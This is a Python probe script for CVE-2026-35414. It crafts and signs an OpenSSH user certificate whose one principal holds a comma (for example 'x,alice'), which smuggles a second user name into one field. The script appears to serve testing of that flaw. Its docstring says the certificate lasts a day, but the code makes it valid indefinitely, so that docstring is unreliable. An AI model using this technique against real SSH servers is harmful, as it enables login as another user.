"""An OpenSSH user certificate whose one principal may contain a comma (``ssh-keygen -n``
splits on commas, so the certificate is written here): the probe of CVE-2026-35414.

    python3 ssh_cert.py USER_PUBKEY_FILE CA_KEY_FILE OUT_CERT_FILE 'x,alice'
"""

from __future__ import annotations

import base64
import os
import struct
import sys
from pathlib import Path

from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

__all__ = ["ca_key", "ca_public_line", "user_cert"]

CERT_TYPE = b"ssh-ed25519-cert-v01@openssh.com"


def _s(b: bytes) -> bytes:
    return struct.pack(">I", len(b)) + b


def _ed25519_blob(pub: bytes) -> bytes:
    return _s(b"ssh-ed25519") + _s(pub)


def ca_key(path: Path) -> Ed25519PrivateKey:
    """Returns the CA key kept in ``path`` (raw 32-byte seed), made on first use."""
    if not path.exists():
        path.write_bytes(os.urandom(32))
        path.chmod(0o600)
    return Ed25519PrivateKey.from_private_bytes(path.read_bytes())


def ca_public_line(ca: Ed25519PrivateKey) -> str:
    """Returns the CA's public key as an authorized_keys key (``ssh-ed25519 AAAA...``)."""
    raw = ca.public_key().public_bytes(serialization.Encoding.Raw, serialization.PublicFormat.Raw)
    return "ssh-ed25519 " + base64.b64encode(_ed25519_blob(raw)).decode()


def user_cert(user_pub_line: str, ca: Ed25519PrivateKey, principals: list[str]) -> str:
    """Returns a user certificate line for the ed25519 key ``user_pub_line``, signed by
    ``ca``, valid for ``principals`` (each one string, commas and all), for a day."""
    blob = base64.b64decode(user_pub_line.split()[1])
    (n,) = struct.unpack(">I", blob[:4])
    pk = blob[4 + n + 4 :]
    names = b"".join(_s(p.encode()) for p in principals)
    body = _s(CERT_TYPE) + _s(os.urandom(32)) + _s(pk)
    body += struct.pack(">QI", 1, 1) + _s(b"corpus-probe") + _s(names)
    body += struct.pack(">QQ", 0, 0xFFFFFFFFFFFFFFFF) + _s(b"") + _s(b"") + _s(b"")
    ca_raw = ca.public_key().public_bytes(
        serialization.Encoding.Raw, serialization.PublicFormat.Raw
    )
    body += _s(_ed25519_blob(ca_raw))
    sig = ca.sign(body)
    cert = body + _s(_s(b"ssh-ed25519") + _s(sig))
    return f"{CERT_TYPE.decode()} {base64.b64encode(cert).decode()} corpus-probe"


def main() -> None:
    user, ca_path, out, principal = sys.argv[1:5]
    ca = ca_key(Path(ca_path))
    Path(out).write_text(user_cert(Path(user).read_text(), ca, [principal]) + "\n")
    print(ca_public_line(ca))


if __name__ == "__main__":
    main()
